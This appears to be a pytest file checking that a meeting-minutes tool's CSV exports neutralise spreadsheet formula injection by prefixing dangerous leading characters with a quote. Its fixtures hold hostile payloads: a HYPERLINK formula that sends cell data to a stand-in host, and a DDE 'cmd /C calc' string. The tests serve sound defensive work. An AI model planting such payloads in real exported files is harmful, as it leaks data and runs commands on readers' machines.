"""CSV out of every command: one writer, and no cell a spreadsheet would run.

A cell that starts with = + - @ (or a tab or carriage return) is a formula to
Excel, LibreOffice and Google Sheets; OWASP's advice is a leading ' that makes
it text.  Each character is tried in an action's text, in its owner's name and
in an item title, through ``report actions --format csv``, ``actions --csv``
and ``search --csv``."""
from __future__ import annotations

import csv
import hashlib
import io

import pytest
from click.testing import CliRunner

from minutes import store
from minutes.cli import cli
from minutes.db import connect
from minutes.output import formats
from parsers.records import Action, Attendee, Item, Meeting, Minutes, Source

STARTS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOAD = "HYPERLINK(\"http://example.invalid/?x=\"&A1,\"open\")"


def hostile_minutes() -> Minutes:
    attendees = [Attendee(f"{c}Nadia Brook{i}", f"N{chr(65 + i)}") for i, c in enumerate(STARTS)]
    return Minutes(
        source=Source(path="hostile.md", format="markdown", sha256=hashlib.sha256(b"hostile").hexdigest()),
        meeting=Meeting(title="Canal Trust Board", date="2024-05-07"),
        attendees=attendees,
        items=[Item(str(i + 1), f"{c}cmd|' /C calc'!A0 item", None, f"line {i}") for i, c in enumerate(STARTS)],
        actions=[Action(str(i + 1), [a.initials], f"{c}{PAYLOAD} lockgate", where=f"line {i}")
                 for i, (c, a) in enumerate(zip(STARTS, attendees))],
    )


@pytest.fixture
def db_path(tmp_path):
    path = str(tmp_path / "m.db")
    db = connect(path)
    store.save(db, hostile_minutes())
    db.close()
    return path


def csv_of(args: list[str], db_path: str) -> list[list[str]]:
    result = CliRunner().invoke(cli, args, env={"MINUTES_DB": db_path}, catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout, newline="")))


def assert_inert(rows: list[list[str]], expected_cells: int) -> None:
    cells = [c for row in rows[1:] for c in row]
    neutralised = [c for c in cells if c.startswith("'") and c[1:2] in STARTS]
    assert len(neutralised) >= expected_cells
    assert not [c for c in cells if c[:1] in STARTS], cells


@pytest.mark.parametrize("args", [["report", "actions", "--series", "Canal", "--format", "csv"],
                                  ["actions", "--csv"],
                                  ["search", "lockgate", "--csv"]])
def test_no_cell_starts_a_formula(args, db_path):
    rows = csv_of(args, db_path)
    assert len(rows) == 1 + len(STARTS)
    assert_inert(rows, 4)  # = + - @ at least: a tab or CR may be cleaned away first (one-line cells)


@pytest.mark.parametrize("start,written", [("=", "'="), ("+", "'+"), ("-", "'-"), ("@", "'@"), ("\t", "'\t"),
                                           ("\r", ""),         # a control character: removed
                                           ("\r=", "'=")])     # and what it hid is made text too
def test_each_formula_character_gets_a_leading_quote(start, written):
    text = formats.to_csv([{"cell": f"{start}SUM(A1:A9)", "n": 3}], ["cell", "n"])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["cell", "n"], [f"{written}SUM(A1:A9)", "3"]]


def test_text_that_only_holds_a_formula_character_later_is_unchanged():
    text = formats.to_csv([{"cell": "Budget = 4,000 + VAT", "n": -1}], ["cell", "n"])
    assert list(csv.reader(io.StringIO(text))) == [["cell", "n"], ["Budget = 4,000 + VAT", "-1"]]


def test_the_report_and_the_query_commands_write_through_the_one_writer(db_path, monkeypatch):
    calls = []
    real = formats.to_csv
    monkeypatch.setattr(formats, "to_csv", lambda *a, **k: calls.append(a[1]) or real(*a, **k))
    csv_of(["report", "actions", "--series", "Canal", "--format", "csv"], db_path)
    csv_of(["actions", "--csv"], db_path)
    assert len(calls) == 2 and calls[0][0] == "group" and calls[1][0] == "id"
